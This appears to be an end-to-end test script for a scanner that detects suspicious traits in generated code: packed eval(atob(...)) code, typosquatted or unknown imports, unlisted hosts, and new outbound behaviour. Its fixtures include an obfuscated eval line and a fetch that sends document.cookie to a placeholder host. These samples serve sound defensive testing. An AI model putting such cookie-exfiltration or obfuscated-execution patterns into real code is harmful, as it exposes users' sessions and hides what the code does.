#!/usr/bin/env bash
# What generated code hides, reaches for and newly does.
#
#   anomaly.sh PROGRAM
. "$(dirname "$0")/lib.sh"
# shellcheck source=tests/e2e/scanning.sh
. "$(dirname "$0")/scanning.sh"
needs_grammars

mkdir -p "$(at site)"
printf 'import React from "react";\nexport const hello = () => React.createElement("p", null, "hello");\n' >"$(at site/ok.js)"
it 'a plain program passes' exits 0 scan "$(at site)"
printf 'eval(atob("YWxlcnQoMSk="));\n' >"$(at site/bad.js)"
it 'what is unpacked and run blocks, unasked' exits 1 scan "$(at site)" --json
it 'with its rule' says '"rule": "cdr.anomaly.packed-code"'
it 'and its weakness' says 'CWE-506'
it 'in SARIF as well' exits 1 scan "$(at site)" --only anomaly --format sarif
it 'as an error' says '"level": "error"'
rm "$(at site/bad.js)"
printf '{"lockfileVersion": 3, "packages": {"": {"name": "shop"}, "node_modules/react": {"version": "18.0.0"}}}\n' >"$(at package-lock.json)"
printf 'scan:\n  package_files: [package-lock.json]\n  packages: [left-pad]\n  hosts: [shop.example, "*.cdn.example"]\n' >"$(at policy.yaml)"
it 'what the lock file names is known' exits 0 scan "$(at site)" --policy "$(at policy.yaml)"
printf 'import x from "raect"; import y from "invented-thing"; import z from "left-pad";\n' >"$(at site/names.js)"
it 'what is nearly known and what is not blocks' exits 1 scan "$(at site)" --policy "$(at policy.yaml)"
it 'the near one says which' says 'raect, not react'
it 'the unknown one is named' says 'invented-thing'
rm "$(at site/names.js)"
printf '<img src="https://pixel.example/p.gif"><script src="https://a.cdn.example/x.js"></script>\n' >"$(at site/page.html)"
it 'a host that is not listed blocks' exits 1 scan "$(at site)" --policy "$(at policy.yaml)"
it 'and is named' says 'not listed: pixel.example'
it 'without a list it does not' exits 0 scan "$(at site)" --only anomaly
printf 'import React from "react";\nfetch("https://shop.example/x", {body: document.cookie});\n' >"$(at new.js)"
it 'what is new against the version before blocks' exits 1 scan "$(at new.js)" --only anomaly --before "$(at site/ok.js)"
it 'the host' says 'it reaches shop.example'
it 'and the cookies' says 'it uses cookie'
it 'what is not new is silent' exits 0 scan "$(at new.js)" --only anomaly --before "$(at new.js)"
it 'no such version' exits 2 scan "$(at new.js)" --before "$(at none.js)"
printf 'scan:\n  package_files: [none.json]\n' >"$(at wrong.yaml)"
it 'a list that is not there is refused' exits 2 scan "$(at site)" --policy "$(at wrong.yaml)"
done_testing
